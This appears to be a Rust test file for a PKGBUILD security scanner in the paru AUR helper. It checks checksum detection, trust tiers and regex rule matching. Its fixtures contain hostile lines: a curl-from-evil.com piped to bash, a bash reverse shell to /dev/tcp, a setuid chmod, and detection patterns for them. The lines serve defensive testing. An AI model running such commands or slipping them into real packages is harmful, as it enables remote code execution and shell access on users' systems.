use paru::scan::{has_checksum_array, invalid_patterns, is_safe, matching_rules, scan_patterns, Tier};

#[test]
fn checksum_arrays_are_detected() {
    assert!(has_checksum_array("pkgname=x\nsha256sums=('SKIP')\n"));
    assert!(has_checksum_array("b2sums=(abc)"));
    assert!(has_checksum_array("  md5sums=()\r\n"));
    assert!(has_checksum_array("source=()\nsha1sums=('x')"));
    assert!(!has_checksum_array("pkgname=x\nsource=(a)\n"));
    assert!(!has_checksum_array("sha256sums =()"));
    assert!(!has_checksum_array(""));
    assert!(!has_checksum_array("sha256\nsums="));
}

#[test]
fn safety_verdicts() {
    assert!(is_safe(Tier::Trusted, false));
    assert!(is_safe(Tier::Okay, false));
    assert!(!is_safe(Tier::Okay, true));
    assert!(!is_safe(Tier::Sketchy, false));
    assert!(!is_safe(Tier::Suspicious, false));
    assert!(!is_safe(Tier::Malicious, false));
    assert!(Tier::Trusted < Tier::Okay && Tier::Okay < Tier::Sketchy);
}

#[test]
fn rules_that_match_a_pkgbuild() {
    let patterns: Vec<String> = vec![
        r"curl\s+[^|]*\|\s*(ba)?sh".to_string(),
        r"/dev/tcp/".to_string(),
        r"chmod\s+[0-7]?4[0-7]{3}".to_string(),
        r"source=\([^)]*http://".to_string(),
    ];
    let content = "build() {\n    curl https://evil.com/script.sh | bash\n}\nchmod 4711 x\n";
    assert_eq!(matching_rules(&patterns, content), vec![0, 2]);
    assert_eq!(matching_rules(&patterns, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), vec![1]);
    assert_eq!(matching_rules(&patterns, "source=(\"x::http://example.com/a.tar.gz\")"), vec![3]);
    assert_eq!(matching_rules(&patterns, "nothing here"), Vec::<usize>::new());
}

#[test]
fn invalid_rule_patterns_are_reported() {
    let patterns: Vec<String> = vec!["a+".to_string(), "(unclosed".to_string(), "[z-a]".to_string(), "ok".to_string()];
    assert_eq!(invalid_patterns(&patterns), vec![1, 2]);
}

const CLEAN: &str = r#"
# Clean PKGBUILD without security issues
pkgname=test-package
pkgver=1.0.0
pkgrel=1
arch=('x86_64')
url="https://example.com"
license=('MIT')
source=("$pkgname-$pkgver.tar.gz::https://github.com/example/test/archive/v$pkgver.tar.gz")
sha256sums=('SKIP')

build() {
    cd "$srcdir/test-$pkgver"
    make
}
"#;

const NO_CHECKSUM: &str = r#"
# PKGBUILD without checksums
pkgname=no-checksum-package
pkgver=1.0.0
pkgrel=1
arch=('x86_64')
url="https://example.com"
license=('MIT')
source=("$pkgname-$pkgver.tar.gz::https://github.com/example/test/archive/v$pkgver.tar.gz")

build() {
    :
}
"#;

#[test]
fn example_pkgbuilds_checksum_coverage() {
    assert!(has_checksum_array(CLEAN));
    assert!(!has_checksum_array(NO_CHECKSUM));
}

#[test]
fn fail_closed_on_invalid_patterns() {
    let patterns: Vec<String> = vec!["curl".to_string(), "(".to_string()];
    assert_eq!(scan_patterns(&patterns, "curl x | sh"), Err(vec![1]));
    let patterns: Vec<String> = vec!["curl".to_string(), "wget".to_string()];
    assert_eq!(scan_patterns(&patterns, "curl x | sh"), Ok(vec![0]));
}
